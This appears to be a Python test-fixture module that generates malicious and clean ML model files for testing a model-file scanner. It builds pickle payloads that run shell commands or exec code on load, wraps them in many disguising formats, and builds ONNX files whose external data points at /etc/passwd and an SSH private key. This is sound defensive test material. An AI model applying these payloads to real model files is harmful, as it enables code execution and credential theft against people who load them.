"""A hostile (and a benign) model corpus, generated as bytes: WRITTEN, NEVER LOADED.

Each payload is a pickle that, if anything ever unpickled it, would create the
sentinel file (a shell ``touch``, ``exec`` of a file write, a logging file
handler, ``Path.write_text`` ...), wrapped the ways attackers publish them:
raw pickles under every name, torch zip and legacy tar checkpoints, zips under
any name, tars, gzip/zlib/bz2/xz (joblib), ``.npy``/``.npz`` object arrays,
polyglots, Keras ``.keras``/``.h5`` Lambda layers, TensorFlow SavedModel PyFunc
ops and ONNX files with custom domains or external data outside the folder.
Tests assert the sentinel never appears.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

CARD = "---\nlicense: apache-2.0\n---\n# test model\n"


# -- pickle bytes ------------------------------------------------------------------------

def _unicode(s: str) -> bytes:
    raw = s.encode()
    return b"\x8c" + bytes([len(raw)]) + raw  # SHORT_BINUNICODE


def _args(args: tuple[object, ...]) -> bytes:
    body = pickle.dumps(args, protocol=2)
    return body[2:-1]  # drop PROTO and STOP: the opcodes that push the tuple


def call(module: str, name: str, args: tuple[object, ...], *, stack_global: bool = True,
         proto: int = 2) -> bytes:
    """A pickle that calls ``module.name(*args)`` when loaded (REDUCE)."""
    if stack_global:
        glob = _unicode(module) + _unicode(name) + b"\x93"
    else:
        glob = b"c" + module.encode() + b"\n" + name.encode() + b"\n"
    head = b"\x80" + bytes([proto]) if proto >= 2 else b""
    return head + glob + _args(args) + b"R."


def call_p0(module: str, name: str, arg: str) -> bytes:
    """Protocol 0 (no magic): ``cmodule\\nname\\n(Varg\\ntR.``."""
    return f"c{module}\n{name}\n(V{arg}\ntR.".encode()


def built_name(sentinel: Path) -> bytes:
    """STACK_GLOBAL whose name is computed while loading (``str('system')``)."""
    return (b"\x80\x04" + _unicode("posix") + b"c__builtin__\nstr\n" + _args(("system",))
            + b"R\x93" + _args((f"touch {sentinel}",)) + b"R.")


def payloads(sentinel: Path) -> dict[str, bytes]:
    """Every callable the issue lists, each writing ``sentinel`` if it ever ran."""
    s = str(sentinel)
    write = f"open({s!r}, 'w').write('pwned')"
    log_cfg = {"version": 1, "handlers": {"h": {"class": "logging.FileHandler", "filename": s}},
               "root": {"handlers": ["h"]}}
    return {
        "os.system": call("os", "system", (f"touch {s}",)),
        "posix.system.p0": call_p0("posix", "system", f"touch {s}"),
        "subprocess.Popen": call("subprocess", "Popen", (["touch", s],), stack_global=False),
        "builtins.exec": call("builtins", "exec", (write,)),
        "builtins.eval.p1": call("__builtin__", "eval", (write,), stack_global=False, proto=1),
        "logging.config.dictConfig": call("logging.config", "dictConfig", (log_cfg,)),
        "code.InteractiveInterpreter.runsource":
            call("code", "InteractiveInterpreter.runsource", (None, write)),
        "doctest.debug_src": call("doctest", "debug_src", (f">>> {write}\n",)),
        "pathlib.Path.write_text": call("pathlib", "Path.write_text", (s, "pwned")),
        "torch.load": call("torch", "load", (s,)),
        "torch.hub.load": call("torch.hub", "load", ("attacker/repo", "entry")),
        "torch.utils.cpp_extension.load_inline":
            call("torch.utils.cpp_extension", "load_inline", ("x", f"// {s}")),
        "mlflow.pyfunc.load_model": call("mlflow.pyfunc", "load_model", ("http://x/",)),
        "pandas.read_pickle": call("pandas", "read_pickle", ("http://x/p.pkl",)),
        "pandas.io.parsers.read_csv": call("pandas.io.parsers", "read_csv", ("http://x/",)),
        "torch.utils.collect_env.run": call("torch.utils.collect_env", "run", (f"touch {s}",)),
        "multiprocessing.util.spawnv_passfds":
            call("multiprocessing.util", "spawnv_passfds", ("/usr/bin/touch", ["touch", s], ())),
        "importlib.import_module": call("importlib", "import_module", ("os",)),
        "runpy._run_code": call("runpy", "_run_code", (write, {})),
        "unknown.global": call("mylib.helpers", "Thing", (s,)),
        "built-at-load-time": built_name(sentinel),
    }


def _persid(key: str) -> bytes:
    return b"(" + _unicode("storage") + b"c" + b"torch\nFloatStorage\n" + _unicode(key) \
        + _unicode("cpu") + b"K\x04t" + b"Q"  # BINPERSID


def torch_state_dict() -> bytes:
    """A plain torch state dict pickle: OrderedDict of _rebuild_tensor_v2(...) only."""
    rebuild = b"ctorch._utils\n_rebuild_tensor_v2\n"
    tensor = (rebuild + b"(" + _persid("0") + b"K\x00K\x04\x85K\x01\x85\x89"
              + b"ccollections\nOrderedDict\n)R" + b"tR")
    return (b"\x80\x02ccollections\nOrderedDict\n)R" + _unicode("weight") + tensor + b"s.")


# -- containers --------------------------------------------------------------------------

def zip_bytes(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def torch_zip(data_pkl: bytes) -> bytes:
    return zip_bytes({"archive/data.pkl": data_pkl, "archive/data/0": b"\0" * 16,
                      "archive/version": b"3\n"}, zipfile.ZIP_STORED)


def sevenzip(members: dict[str, bytes]) -> bytes:
    import py7zr

    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as z:
        for name, data in members.items():
            z.writef(io.BytesIO(data), name)
    return buf.getvalue()


def tar_bytes(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def legacy_torch_tar(payload: bytes) -> bytes:
    """torch.save before 0.4: a tar of sys_info, pickle, storages and tensors pickles."""
    return tar_bytes({"sys_info": pickle.dumps({"protocol_version": 1000}, protocol=2),
                      "pickle": payload, "storages": pickle.dumps(0, protocol=2),
                      "tensors": pickle.dumps(0, protocol=2)})


def npy_object(payload: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (len(header) + 10) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


def npy_ints() -> bytes:
    header = "{'descr': '<i8', 'fortran_order': False, 'shape': (2,), }"
    header += " " * (63 - (len(header) + 10) % 64) + "\n"
    return (b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode()
            + struct.pack("<2q", 1, 2))


def keras_zip(layers: list[dict[str, object]]) -> bytes:
    config = {"module": "keras", "class_name": "Sequential", "config": {"layers": layers}}
    return zip_bytes({"config.json": json.dumps(config).encode(),
                      "metadata.json": b'{"keras_version": "3.5.0"}',
                      "model.weights.h5": b"\x89HDF\r\n\x1a\n" + b"\0" * 64})


LAMBDA = {"module": "keras.layers", "class_name": "Lambda",
          "config": {"name": "evil", "function": {"class_name": "__lambda__", "config": {
              "code": "4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMEAAAAfABTAKkBTqkAKQHaAXhyAgAAAHIC"}}}}
DENSE = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 2}}


def h5_with_config(layers: list[dict[str, object]]) -> bytes:
    config = json.dumps({"class_name": "Sequential", "config": {"layers": layers}})
    return (b"\x89HDF\r\n\x1a\n" + b"\0" * 200 + b"model_config\0" + config.encode()
            + b"\0" * 200)


def _varint(n: int) -> bytes:
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        out += bytes([b | (0x80 if n else 0)])
        if not n:
            return out


def pb_len(field: int, payload: bytes) -> bytes:
    return _varint(field << 3 | 2) + _varint(len(payload)) + payload


def pb_int(field: int, value: int) -> bytes:
    return _varint(field << 3) + _varint(value)


def saved_model(ops: list[str]) -> bytes:
    nodes = b"".join(pb_len(1, pb_len(1, f"n{i}".encode()) + pb_len(2, op.encode()))
                     for i, op in enumerate(ops))
    return pb_len(2, pb_len(2, nodes))  # SavedModel.meta_graphs -> graph_def -> node


def onnx_model(domain: str = "", location: str | None = None, op: str = "Relu") -> bytes:
    node = pb_len(4, op.encode()) + (pb_len(7, domain.encode()) if domain else b"")
    graph = pb_len(1, node)
    if location is not None:
        entry = pb_len(1, b"location") + pb_len(2, location.encode())
        graph += pb_len(5, pb_len(8, b"w") + pb_len(13, entry) + pb_int(14, 1))
    return pb_int(1, 8) + pb_len(8, pb_len(1, domain.encode()) + pb_int(2, 1)) + pb_len(7, graph)


# -- folders -----------------------------------------------------------------------------

def folder(root: Path, name: str, files: dict[str, bytes], card: str = CARD) -> Path:
    d = root / name
    d.mkdir(parents=True)
    (d / "README.md").write_text(card, encoding="utf-8")
    for rel, data in files.items():
        p = d / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data)
    return d


Wrapper = Callable[[bytes], dict[str, bytes]]

CONTAINERS: dict[str, Wrapper] = {
    "raw.pkl": lambda p: {"model.pkl": p},
    "pytorch_model.bin": lambda p: {"pytorch_model.bin": p},
    "torch-zip.pt": lambda p: {"model.pt": torch_zip(p)},
    "zip-any-name.dat": lambda p: {"weights.dat": zip_bytes({"x/data.pkl": p})},
    "zip.zip": lambda p: {"model.zip": zip_bytes({"model.pkl": p})},
    "nested-zip": lambda p: {"outer.zip": zip_bytes({"inner.zip": zip_bytes({"m.pkl": p})})},
    "tar": lambda p: {"model.tar": tar_bytes({"model.pkl": p})},
    "pth.tar": lambda p: {"checkpoint.pth.tar": tar_bytes({"checkpoint.pth": p})},
    "legacy-torch-tar": lambda p: {"old.pt": legacy_torch_tar(p)},
    "npy-object": lambda p: {"arr.npy": npy_object(p)},
    "npz-object": lambda p: {"arrs.npz": zip_bytes({"a.npy": npy_object(p),
                                                   "b.npy": npy_ints()})},
    "pkl.gz": lambda p: {"model.pkl.gz": gzip.compress(p)},
    "joblib-zlib": lambda p: {"model.joblib": zlib.compress(p)},
    "joblib-gzip": lambda p: {"clf.joblib": gzip.compress(p)},
    "joblib-bz2": lambda p: {"clf.joblib": bz2.compress(p)},
    "joblib-xz": lambda p: {"clf.joblib": lzma.compress(p)},
    "joblib-lzma": lambda p: {"clf.lzma": lzma.compress(p, format=lzma.FORMAT_ALONE)},
    "tar.gz": lambda p: {"bundle.tar.gz": gzip.compress(tar_bytes({"m.pkl": p}))},
    "sav": lambda p: {"model.sav": p},
    "dill": lambda p: {"model.dill": p},
    "pdparams": lambda p: {"model.pdparams": p},
    "dat": lambda p: {"weights.dat": p},
    "no-extension": lambda p: {"weights": p},
    "polyglot-pickle+zip": lambda p: {"model.bin": p + torch_zip(torch_state_dict())},
    "7z": lambda p: {"model.7z": sevenzip({"pytorch_model.bin": p})},
}


def hostile(root: Path, sentinel: Path) -> dict[str, Path]:
    """One folder per (payload, container) pair, plus the non-pickle attack formats."""
    out: dict[str, Path] = {}
    pls = payloads(sentinel)
    for cname, wrap in CONTAINERS.items():
        for pname, data in pls.items():
            key = f"{cname}/{pname}"
            out[key] = folder(root, key.replace("/", "__"), wrap(data))
    out["7z-corrupt"] = folder(root, "sevenzip", {"model.7z": b"7z\xbc\xaf\x27\x1c\x00\x04"
                                                  + b"\0" * 40})
    out["keras-lambda"] = folder(root, "keras-lambda", {"model.keras": keras_zip([LAMBDA])})
    custom = {"module": "evil_pkg.layers", "class_name": "Backdoor", "config": {}}
    out["keras-custom-object"] = folder(root, "keras-custom",
                                        {"model.keras": keras_zip([DENSE, custom])})
    out["h5-lambda"] = folder(root, "h5-lambda", {"model.h5": h5_with_config([DENSE, LAMBDA])})
    out["savedmodel-pyfunc"] = folder(root, "sm-pyfunc", {
        "saved_model.pb": saved_model(["Placeholder", "PyFunc", "Identity"])})
    out["savedmodel-readfile"] = folder(root, "sm-readfile", {
        "saved_model.pb": saved_model(["Const", "ReadFile"])})
    out["savedmodel-keras-lambda"] = folder(root, "sm-keras", {
        "saved_model.pb": saved_model(["MatMul"]),
        "keras_metadata.pb": pb_len(1, json.dumps({"class_name": "Lambda",
                                                   "config": {"name": "l"}}).encode())})
    out["onnx-custom-domain"] = folder(root, "onnx-custom", {
        "model.onnx": onnx_model(domain="com.attacker.ops", op="Backdoor")})
    out["onnx-external-abs"] = folder(root, "onnx-abs", {
        "model.onnx": onnx_model(location="/etc/passwd")})
    out["onnx-external-dotdot"] = folder(root, "onnx-dotdot", {
        "model.onnx": onnx_model(location="../../../../home/user/.ssh/id_rsa")})
    return out


def safetensors_bytes() -> bytes:
    header = json.dumps({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                         "__metadata__": {"format": "pt"}}).encode()
    return struct.pack("<Q", len(header)) + header + b"\0" * 8


def gguf_bytes() -> bytes:
    key = b"general.name"
    value = b"tiny"
    return (b"GGUF" + struct.pack("<I", 3) + struct.pack("<QQ", 0, 1)
            + struct.pack("<Q", len(key)) + key + struct.pack("<I", 8)
            + struct.pack("<Q", len(value)) + value)


def benign(root: Path) -> dict[str, Path]:
    """Six clean model folders in the common formats."""
    cfg = json.dumps({"model_type": "llama", "architectures": ["LlamaForCausalLM"]}).encode()
    tok = json.dumps({"chat_template": "{% for m in messages %}{{ m['content'] }}{% endfor %}"
                      }).encode()
    return {
        "safetensors": folder(root, "b-safetensors", {
            "model.safetensors": safetensors_bytes(), "config.json": cfg,
            "tokenizer_config.json": tok}),
        "torch-zip": folder(root, "b-torch", {"pytorch_model.bin": torch_zip(torch_state_dict()),
                                              "config.json": cfg}),
        "gguf": folder(root, "b-gguf", {"model-Q4_K_M.gguf": gguf_bytes()}),
        "numpy": folder(root, "b-numpy", {"a.npy": npy_ints(),
                                          "b.npz": zip_bytes({"x.npy": npy_ints()})}),
        "keras": folder(root, "b-keras", {"model.keras": keras_zip([DENSE]),
                                          "old.h5": h5_with_config([DENSE])}),
        "onnx-savedmodel": folder(root, "b-onnx", {
            "model.onnx": onnx_model(domain="", location="model.onnx_data"),
            "model.onnx_data": b"\0" * 8,
            "saved_model.pb": saved_model(["Placeholder", "MatMul", "SaveV2", "RestoreV2"])}),
    }
